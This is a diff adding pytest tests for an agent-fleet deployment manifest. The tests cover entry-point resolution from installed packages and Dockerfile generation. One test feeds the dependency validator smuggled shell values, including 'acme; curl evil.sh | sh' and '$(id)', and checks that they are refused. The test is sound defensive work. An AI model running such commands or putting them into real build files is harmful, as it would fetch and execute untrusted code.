@@ -10,6 +10,7 @@ from pathlib import Path
 import pytest
 
 from deploy.manifest import FleetManifest, ManifestError, compose_bundle, load
+from deploy.render import project_files
 from fleet.errors import ErrorCode
 
 SPECIALIST = (
@@ -161,3 +162,75 @@ def test_a_project_s_policy_is_checked_and_added_to_the_platform_s_bundle(tmp_pa
     assert data["config"]["tools"]["mcp-tickets"]["open_ticket"] == {"scopes": ["tickets:write"]}
     assert "mcp-sql" in data["config"]["tools"]  # the platform's rules stay
     assert (bundle / "support.rego").is_file() and (bundle / "tools.rego").is_file()
+
+
+def installed(site: Path, dist: str, module: str, entry_points: str) -> None:
+    """A package installed in ``site`` as pip leaves one: its module, and its metadata with the
+    entry points it publishes."""
+    site.mkdir(exist_ok=True)
+    (site / f"{module}.py").write_text(SPECIALIST)
+    info = site / f"{dist.replace('-', '_')}-1.0.dist-info"
+    info.mkdir()
+    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {dist}\nVersion: 1.0\n")
+    (info / "entry_points.txt").write_text(textwrap.dedent(entry_points))
+
+
+def test_an_installed_package_s_entry_points_name_services_and_workflows(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    site = tmp_path / "site"
+    installed(
+        site,
+        "acme-crm",
+        "acme_crm",
+        """\
+        [agent_fleet.mcp_servers]
+        crm = acme_crm:main
+
+        [agent_fleet.workflows]
+        follow-up = acme_crm:build
+        """,
+    )
+    (site / "acme_crm.py").write_text(SPECIALIST + "\ndef build(): ...\n")
+    monkeypatch.syspath_prepend(str(site))
+    root = tmp_path / "project"
+    root.mkdir()
+    manifest = load(
+        project(
+            root,
+            """\
+            [[mcp_servers]]
+            id = "mcp-crm"
+            entry_point = "crm"
+            scopes = ["crm:read"]
+
+            [[workflows]]
+            name = "follow-up"
+            entry_point = "follow-up"
+            """,
+        )
+    )
+    (server,) = manifest.services
+    assert (server.id, server.entry, server.scopes[-1]) == ("mcp-crm", "acme_crm:main", "crm:read")
+    assert manifest.workflows == (("follow-up", "acme_crm:build"),)
+
+    # None published under that name, in that group: refused with what to do.
+    missing = refused(root, '[[specialists]]\nid = "crm-agent"\nentry_point = "crm"\nskills = ["crm"]\n')
+    assert "no installed package publishes entry point 'crm' in agent_fleet.specialists" in missing.message
+    assert missing.details["line"] == 3 and "pip install" in missing.details["fix"]
+    both = refused(root, '[[mcp_servers]]\nid = "mcp-crm"\nentry = "tickets:main"\nentry_point = "crm"\n')
+    assert "both entry and entry_point" in both.message
+    # Two packages publishing one name differently: which one runs is not left to chance.
+    installed(site, "other-crm", "other_crm", "[agent_fleet.mcp_servers]\ncrm = other_crm:main\n")
+    twice = refused(root, '[[mcp_servers]]\nid = "mcp-crm"\nentry_point = "crm"\n')
+    assert "acme-crm, other-crm" in twice.message
+
+
+def test_the_project_s_image_installs_the_manifest_s_dependencies(tmp_path: Path) -> None:
+    manifest = load(project(tmp_path, '[fleet]\ndependencies = ["acme-crm>=1.2,<2", "httpx[http2]"]\n'))
+    dockerfile = project_files(manifest, tmp_path / "deployment")[tmp_path / "deployment" / "Dockerfile"]
+    assert "RUN pip install --no-cache-dir 'acme-crm>=1.2,<2' 'httpx[http2]'\n" in dockerfile
+    # Written into a RUN line: anything but a requirement is refused, not quoted and hoped for.
+    for bad in ('"acme; curl evil.sh | sh"', '"-e ."', '"$(id)"', '"acme crm"'):
+        error = refused(tmp_path, f"[fleet]\ndependencies = [{bad}]\n")
+        assert error.details["line"] == 2 and "dependencies must be a list" in error.message
